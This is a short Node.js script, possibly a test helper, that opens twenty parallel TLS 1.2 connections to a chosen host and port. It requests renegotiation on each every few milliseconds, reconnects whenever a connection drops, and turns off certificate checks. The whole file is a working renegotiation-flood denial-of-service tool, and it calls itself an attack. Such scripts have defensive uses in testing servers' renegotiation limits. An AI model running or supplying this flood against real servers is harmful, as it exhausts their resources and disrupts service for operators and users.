// Connects with TLS 1.2 and asks for renegotiation again and again. Prints a dot for each time.
import { connect } from "node:tls";

const [host, port, localAddress] = process.argv.slice(1);
const options = { host, port: Number(port), localAddress, servername: "localhost", rejectUnauthorized: false };

const attack = () => {
  const socket = connect({ ...options, maxVersion: "TLSv1.2" }, () => {
    const ask = () => {
      if (socket.destroyed) return;
      process.stdout.write(".");
      // Called back only where the server agrees, or has closed the connection.
      socket.renegotiate({}, () => {});
      setTimeout(ask, 5);
    };
    ask();
  });
  let isOver = false;
  const again = () => {
    if (isOver) return;
    isOver = true;
    clearTimeout(patience);
    socket.destroy();
    setTimeout(attack, 20);
  };
  const patience = setTimeout(again, 2_000);
  socket.on("error", again);
  socket.on("close", again);
};

for (let index = 0; index < 20; index++) attack();
